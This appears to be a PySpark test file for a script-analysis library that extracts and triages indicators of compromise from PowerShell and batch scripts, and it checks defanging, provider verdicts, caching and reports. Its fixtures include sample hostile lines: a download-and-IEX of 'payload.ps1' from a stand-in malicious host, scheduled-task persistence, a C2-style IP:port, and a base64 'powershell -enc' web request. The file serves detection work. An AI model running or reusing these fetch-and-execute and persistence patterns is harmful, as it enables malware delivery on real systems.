"""Operators of the library proper on small fixtures."""

import re
import time
from urllib.parse import quote, quote_plus

from pyspark.sql import functions as F

from lamina import api
from lamina.functions import checks
from lamina.functions import text as T
from lamina.functions import values as V
from lamina.operators import enrich, extract, findings, history, layers, reports, surveys
from lamina.plans import catalogue
from lamina.sources import scripts, sinks
from lamina.streaming import intake


def rows(df):
    return sorted(map(tuple, df.collect()), key=str)


DEMO = """$u = 'http://' + 'malicious.example.invalid' + '/payload.ps1'
$e = [Uri]::UnescapeDataString('203%2E0%2E113%2E9')
$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('c3RhZ2UtdHdvIGRyb3AgcGF0aA=='))
# HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run and Global\\SOME-IDEA-123
$m = 'd41d8cd98f00b204e9800998ecf8427e'; $p = 'd41d8cd98f00b2040000'
# operator@example.invalid hxxps[:]//b.test/x 198.51.100.42:4444
schtasks /create /tn UpdaterTask /tr x
IEX $u
"""


def test_scan(spark):
    df = spark.createDataFrame([(1, DEMO, "x"), (2, None, "y"), (3, "", "z")], "k long, t string, value string")
    got = {(r["type"], r["value"]) for r in findings.scan(layers.layers(df, "k", "t"), ["k", "layer_id"], "final").collect()}
    assert {("url", "http://malicious.example.invalid/payload.ps1"), ("ip", "203.0.113.9"), ("mutex", "Global\\SOME-IDEA-123"), ("hash_md5", "d41d8cd98f00b204e9800998ecf8427e"), ("hash_partial", "d41d8cd98f00b2040000"), ("email", "operator@example.invalid"), ("url", "https://b.test/x"), ("ip_port", "198.51.100.42:4444"), ("scheduled_task", "UpdaterTask"), ("signature", "Invoke-Expression / IEX usage"), ("signature", "Scheduled task persistence")} <= got


def test_collapse(spark):
    df = spark.createDataFrame([(1, "mutex", "Global\\abcdef", 0), (1, "mutex", "Global\\abc", 1), (2, "mutex", "Global\\abc", 0), (1, "hash_md5", "A" * 32, 2), (1, "hash_partial", "a" * 20, 3), (1, "ip", "1.1.1.1", 4), (1, "ip", "1.1.1.1", 5)], "k long, type string, value string, at int")
    got = rows(findings.without_pieces(findings.first_of_equals(df, ["k"]), ["k"]).select("k", "type", "value"))
    assert got == [(1, "hash_md5", "A" * 32), (1, "ip", "1.1.1.1"), (1, "mutex", "Global\\abcdef"), (2, "mutex", "Global\\abc")]
    many = spark.range(401).selectExpr("1L AS k", "'mutex' AS type", "concat('Global\\\\m', repeat('x', cast(id AS int))) AS value", "cast(id AS int) AS at")
    assert findings.without_pieces(many, ["k"]).count() == 1 and findings.without_pieces(many, ["k"], limit=400).count() == 401


def test_orders(spark):
    df = spark.createDataFrame([("a", "x", "low"), ("a", "y", "high"), ("b", "z", "low"), ("b", "q", None)], "type string, value string, severity string")
    assert [r["value"] for r in findings.in_scan_order(df).collect()] == ["y", "z", "x", "q"]
    assert [r["value"] for r in findings.in_stored_order(df).collect()] == ["y", "x", "z", "q"]


def test_text_functions(spark):
    df = spark.createDataFrame([("a\r\nb\rc`\n  d",)], "t string")
    assert df.select(T.powershell_lines(F.col("t"))).first()[0] == "a\nb\nc d"
    assert df.select(T.batch_lines(F.lit("a\r\nb\rc"))).first()[0] == "a\nbc"
    assert df.select(T.tidy(F.lit("\n\na  \n\n\n\nb\n"))).first()[0] == "a\n\nb"
    assert df.select(T.defang(F.lit("http://a.b@c"), F.lit("url"))).first()[0] == "hxxp://a[.]b[@]c"
    assert df.select(T.defang(F.lit("2001:db8::1"), F.lit("ip"))).first()[0] == "2001[:]db8[:][:]1"
    assert df.select(T.refang(F.lit("hXXps[:]//a[dot]b(AT)c"))).first()[0] == "https://a.b@c"
    assert df.select(T.spreadsheet_safe(F.lit("=1+1")), T.spreadsheet_safe(F.lit("-7.5"))).first()[:] == ("'=1+1", "-7.5")
    assert df.select(T.context(F.lit("x" * 50 + "HIT" + "y" * 50), F.lit(51), F.lit(3))).first()[0] == "x" * 40 + "HIT" + "y" * 40
    assert df.select(T.duration(F.lit(3330.0)), T.duration(F.lit(85030.0))).first()[:] == ("3.33s", "1m 25.03s")
    assert df.select(T.looks_encoded(F.lit("aGVsbG8gd29ybGQ" * 3)), T.looks_encoded(F.lit("a" * 64))).first()[:] == (True, False)
    assert df.select(T.reserved_characters(F.lit("a\0b")), T.preview(F.lit(" a \n b "))).first()[:] == ("a�b", "a b")
    assert df.select(T.at_offset(F.lit(0.0), F.lit(7))).first()[0] == "1970-01-01 07:00:00"


def test_scope_and_types(spark):
    df = spark.createDataFrame([("domain", "a.test"), ("domain", "a.com"), ("url", "http://localhost/x"), ("hash_partial", "ab"), ("email", "a@b.example"), (None, None)], "type string, value string")
    assert [r[0] for r in df.select(enrich.skip_reason(F.col("type"), F.col("value"))).collect()] == ["reserved_suffix", None, "single_label", "partial_hash", "reserved_suffix", None]
    assert df.select(enrich.resolve_type(F.lit("d41d8cd98f00b204e9800998ecf8427e"), F.lit("hash")), enrich.resolve_type(F.lit("zz"), F.lit("hash")), enrich.resolve_type(F.lit("a.com"), F.lit("auto"))).first()[:] == ("hash_md5", None, "domain")


UNTIDY = ["a.test", " a.test\r\n", "\ta.com\u3000", "a[.]test", "A[.]COM ", "hxxp://a[.]b.example/x y\nz", "x@\u00e4.invalid.", "http://[::1]:80/x", "//h/x", "host:80\n", "- a.com", "q\\r.local", "\u00fc.com", "", " ", None, "10.0.0.1", "10.0.0.1\n", "10[.]0[.]0[.]1", "2001:db8::1", "fe80::1", "::", "2606:4700::1111", "1:2", "d41d8cd98f00b204e9800998ecf8427e\t", "a b", "a*~+b"]


def brute_reason(kind, value):
    h = (value or "").strip()
    h = h.split("://", 1)[1] if "://" in h else h
    h = h.split("/", 1)[0].split("?", 1)[0]
    h = h.rsplit("@", 1)[1] if "@" in h else h
    h = h[1:].split("]", 1)[0] if h.startswith("[") else h.split(":", 1)[0] if h.count(":") == 1 else h
    h = h.strip().rstrip(".").lower()
    if kind == "hash_partial":
        return "partial_hash"
    if kind == "signature" and value in {r[0] for r in V.RULES}:
        return "local_rule"
    if kind not in ("domain", "url", "email") or not h:
        return None
    return "single_label" if "." not in h else "reserved_suffix" if h.rsplit(".", 1)[1] in V.RESERVED_SUFFIXES else None


def brute_kind(value):
    v = (value or "").strip()
    for a, b in (("(?i)hxxps", "https"), ("(?i)hxxp", "http"), (r"(?i)\[\.\]|\(\.\)|\[dot\]|\(dot\)", "."), (r"\[:\]|\(:\)", ":"), (r"(?i)\[@\]|\(@\)|\[at\]|\(at\)", "@")):
        v = re.sub(a, b, v)
    for kind, p in (("ip", V.IPV4), ("url", V.URL), ("hash_sha256", V.SHA256), ("hash_sha1", V.SHA1), ("hash_md5", V.MD5), ("domain", V.DOMAIN)):
        if re.fullmatch(p, v) and (kind != "domain" or v.rsplit(".", 1)[1].lower() in V.TLDS):
            return kind


def test_untidy_values_against_brute_force(spark, data, tmp_path):
    kinds = ("domain", "url", "email", "hash_partial", "signature", "ip", "ip_port")
    made = [(i, k, v) for i, (k, v) in enumerate(((k, v) for k in kinds for v in UNTIDY), 10**6)]
    stored = [tuple(r) for r in spark.read.parquet(f"{data}/findings.parquet").select("id", "type", "value").collect()]
    every = made + stored
    spark.createDataFrame(every, "id long, type string, value string").write.parquet(str(tmp_path / "findings.parquet"))
    ask = lambda name: catalogue.QUERIES[name](spark, str(tmp_path))
    assert rows(ask("scope_skips")) == sorted([(i, brute_reason(k, v)) for i, k, v in every], key=str)
    assert rows(ask("classify_findings")) == sorted([(i, brute_kind(v)) for i, _, v in every], key=str)
    assert rows(ask("ip_categories")) == sorted([(i, v, checks.ip_category(v)) for i, k, v in every if k == "ip"], key=str)
    links = {r["id"]: r for r in ask("provider_links").collect()}
    assert len(links) == len(every)
    group = lambda k: "hash" if k in ("hash_md5", "hash_sha1", "hash_sha256") else "ip" if k == "ip_port" else k
    for i, k, v in every:
        bare = v.split(":")[0] if group(k) == "ip" and v and v.count(":") == 1 else v
        for p in {p for p, _ in surveys.PAGES}:
            page = surveys.PAGES.get((p, group(k)))
            assert links[i][p] == (page + (quote_plus(bare) if "?" in page else quote(bare, safe="")) + ("/" if (p, k) == ("abusech", "signature") else "") if page and v else None), (p, k, v)


def test_provider_verdicts(spark):
    cases = [
        ("virustotal", '{"data":{"attributes":{"last_analysis_stats":{"malicious":2,"harmless":1}}}}', "malicious"), ("virustotal", '{"data":{"attributes":{"last_analysis_stats":{"harmless":1}}}}', "clean"), ("virustotal", "{}", "unknown"),
        ("abuseipdb", '{"data":{"abuseConfidenceScore":75}}', "malicious"), ("abuseipdb", '{"data":{"abuseConfidenceScore":25}}', "suspicious"), ("abuseipdb", '{"data":{"abuseConfidenceScore":1,"totalReports":3}}', "clean"),
        ("otx", '{"pulse_info":{"count":3}}', "malicious"), ("otx", '{"pulse_info":{"count":1}}', "suspicious"), ("greynoise", '{"classification":"benign"}', "clean"), ("pulsedive", '{"risk":"high"}', "malicious"), ("shodan", '{"ports":[1]}', "clean"), ("shodan", '{"tags":["x"]}', "suspicious"), ("none", None, "unknown"),
    ]
    df = spark.createDataFrame(cases, "p string, b string, v string")
    assert df.where(enrich.provider_verdict(F.col("p"), F.col("b")) != F.col("v")).count() == 0


def test_verdict_orders(spark):
    df = spark.createDataFrame([(1, "a", "clean"), (1, "b", "unknown"), (2, "a", "info"), (3, "a", " Malicious "), (3, "b", "malicious"), (4, "scope", "malicious"), (5, "a", "odd")], "finding_id long, source string, verdict string")
    assert rows(enrich.worst_for_report(df)) == [(1, "clean", 1, 2), (3, "malicious", 2, 2), (4, "malicious", 1, 1), (5, "unknown", 0, 1)]
    assert rows(enrich.worst_for_table(df)) == [(1, "unknown"), (2, "unknown"), (3, "malicious"), (5, "unknown")]


def test_cache(spark):
    cache = spark.createDataFrame([("s", "ip", "1.1.1.1", "clean", None, 100.0), ("s", "url", "http://a", "error", None, 100.0), ("s", "domain", "a.b", "clean", None, 1.0)], "source string, ioc_type string, value string, verdict string, detail string, fetched_at double")
    asked = spark.createDataFrame([("s", "ip", "1.1.1.1"), ("s", "url", "HTTP://A"), ("s", "domain", "A.b")], "source string, type string, value string")
    got = {r["type"]: r["verdict"] for r in enrich.cached(asked, cache, 150.0, 60.0).collect()}
    assert got == {"ip": "clean", "url": None, "domain": None}
    new = enrich.upsert_cache(cache, spark.createDataFrame([("s", "ip", "1.1.1.1", "malicious", "x", 200.0), ("s", "domain", "A.B", "unknown", None, 0.5)], cache.schema))
    assert {(r["ioc_type"], r["verdict"]) for r in new.collect()} == {("ip", "malicious"), ("url", "error"), ("domain", "clean")}


def test_locate_prefers_the_longest_prefix(spark):
    blocks = spark.createDataFrame([(167772160, 8, "wide"), (167772160, 24, "narrow")], "net_lo long, prefix int, name string")
    ips = spark.createDataFrame([("10.0.0.9",), ("10.9.9.9",), ("8.8.8.8",), ("x",), (None,)], "ip string")
    assert rows(enrich.locate(ips, "ip", blocks).select("ip", "name")) == sorted([("10.0.0.9", "narrow"), ("10.9.9.9", "wide"), ("8.8.8.8", None), ("x", None), (None, None)], key=str)
    assert enrich.locate(ips, "ip", blocks.limit(0)).where("name IS NOT NULL").count() == 0


def test_history(spark):
    a = spark.createDataFrame([(i, float(i % 7), None if i % 3 else 1) for i in range(30)] + [(99, None, None)], "id long, created_at double, batch_id long")
    f = spark.createDataFrame([(1, 0, "high"), (2, 0, None), (3, 5, "low")], "id long, analysis_id long, severity string")
    assert {(r["id"], r["finding_count"], r["high_count"]) for r in history.with_counts(a, f).where("finding_count > 0").collect()} == {(0, 2, 1), (5, 1, 0)}
    assert history.beyond(a, 10).count() == 21 and history.beyond(a, 100).count() == 0 and history.beyond(a, 0).count() == 31
    log = spark.createDataFrame([(1, "a", 1), (1, "b", 2)], "id long, s string, t int")
    assert rows(history.latest_triage(log, "id", "t")) == [(1, "b", 2)]
    left, kept = history.delete(a, f, spark.createDataFrame([(0,)], "id long"))
    assert left.count() == 30 and kept.count() == 1


def test_sources_and_sinks(spark, tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a b.ps1").write_bytes(b"\xff\xfe" + "Write-Host 1".encode("utf-16-le"))
    (tmp_path / "in" / "c.exe").write_bytes(b"x")
    got = scripts.read_scripts(spark, str(tmp_path / "in"))
    assert rows(got.select("filename", "text")) == [("a_20b.ps1" if got.first()["filename"] != "a_b.ps1" else "a_b.ps1", "Write-Host 1")]
    df = spark.createDataFrame([(1, "=x"), (2, "ok")], "id long, v string")
    sinks.write_csv(df, str(tmp_path / "out"))
    assert rows(spark.read.option("header", True).csv(str(tmp_path / "out"))) == [("1", "'=x"), ("2", "ok")]


def test_stream(spark, tmp_path):
    (tmp_path / "drop").mkdir()
    for i in range(3):
        (tmp_path / "drop" / f"{i}.ps1").write_text("IEX 'x' # 10.0.0.1" if i < 2 else "http://a.test/")
    docs = intake.once(intake.arriving(spark, str(tmp_path / "drop")))
    q = intake.findings_into(docs, str(tmp_path / "t"), str(tmp_path / "c"))
    q.awaitTermination(120)
    assert q.exception() is None
    got = spark.read.parquet(str(tmp_path / "t"))
    assert got.where("type = 'ip'").count() == 1 and got.where("type = 'url'").count() == 1


def test_long_text_in_time(spark):
    text = "a." * 300_000 + " x'" + "y" * 300_000
    start = time.time()
    extract.indicators(spark.createDataFrame([(1, text)], "k long, t string"), "k", "t").count()
    assert time.time() - start < 60


def test_as_of(spark):
    e = spark.createDataFrame([(1, "a", 5), (2, "a", 1), (3, "b", 9)], "id long, k string, t int")
    f = spark.createDataFrame([("a", 2, "x"), ("a", 4, "y"), ("b", 10, "z")], "k string, ft int, v string")
    assert rows(enrich.as_of(e, f, ["k"], "t", "ft").select("id", "fact_v")) == [(1, "y"), (2, None), (3, None)]


def test_front_door(spark, data):
    df = spark.createDataFrame([(1, "powershell -enc " + "SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcAA6AC8ALwBhAC4AdABlAHMAdAAvAHgA"), (2, None)], "id long, text string")
    a = api.analyze(df)
    assert a.layers.where("id = 1").count() == 2 and {r["value"] for r in a.findings.where("type = 'url'").collect()} == {"http://a.test/x"}
    assert {r["id"]: r["layers"] for r in a.trees.collect()} == {1: 2, 2: 1}
    cache = spark.createDataFrame([("otx", "ip", "198.51.100.7", "malicious", None, 100.0)], "source string, ioc_type string, value string, verdict string, detail string, fetched_at double")
    asked = api.lookup(spark.createDataFrame([(" 198[.]51[.]100[.]7",), ("nothing",)], "value string"), cache, 200.0)
    assert {r["type"] for r in asked.collect()} == {"ip"} and asked.count() == 7 and {r["source"] for r in asked.where("verdict = 'malicious'").collect()} == {"otx"}
    tables = [spark.read.parquet(f"{data}/{n}.parquet") for n in ("analyses", "findings", "batches")]
    assert api.newest(*tables, keep=5).count() == 5 and api.stored(*tables[:2], [1, 2])[0].count() == 2


def test_workbook_is_read_again(spark):
    import io
    import xml.etree.ElementTree as E
    import zipfile

    rows_ = spark.createDataFrame([(1, "url", "=1+1 <&\x01 é"), (1, "ip", None), (2, "ip", "x")], "id long, type string, value string")
    books = {r["id"]: bytes(r["content"]) for r in reports.workbooks(rows_, "id", ["type", "value"]).collect()}
    z = zipfile.ZipFile(io.BytesIO(books[1]))
    cells = [t.text or "" for t in E.fromstring(z.read("xl/worksheets/sheet1.xml")).iter("{http://schemas.openxmlformats.org/spreadsheetml/2006/main}t")]
    assert cells == ["type", "value", "ip", "", "url", "=1+1 <& é"] and set(books) == {1, 2} and reports.workbooks(rows_.limit(0), "id", ["type"]).count() == 0


def test_report_parts(spark):
    df = spark.createDataFrame([(["a", "b", "c"], {"x": "1", "y": "2"}, {"x": "1"}, " ", "env")], "i array<string>, m map<string,string>, h map<string,string>, s string, e string")
    got = df.select(reports.brief(F.col("i"), 2), reports.own_variables(F.col("m"), F.col("h")), reports.key_of(F.col("s"), F.col("e")), reports.composed([F.lit("a"), F.lit(""), F.lit(None).cast("string"), F.lit("b")])).first()
    assert tuple(got) == ("a, b (+1 more)", {"y": "2"}, "env", "a, b")


def test_rate_windows_across_slices(spark):
    times = [0.0, 3839.0, 3840.0, 3841.0, 3899.0, 3901.0, 7680.0, 7680.0]
    df = spark.createDataFrame([(i, "p", t) for i, t in enumerate(times)] + [(99, None, 0.0)], "i int, p string, t double")
    got = {r["i"]: r["in_window"] for r in enrich.rate_windows(df, "p", "t").collect()}
    assert got == {**{i: sum(t - 60 <= u <= t for u in times) for i, t in enumerate(times)}, 99: 1}


def test_layers_never_broadcast_the_documents(spark):
    docs = spark.range(40).select("id", F.concat(F.lit("Write-Host "), (F.col("id") % 7).cast("string")).alias("text"))
    out = layers.layers(docs, "id", "text")
    plan = out._jdf.queryExecution().sparkPlan().toString()
    assert "SortMergeJoin" in plan and "Broadcast" not in plan
    assert out.count() == 40
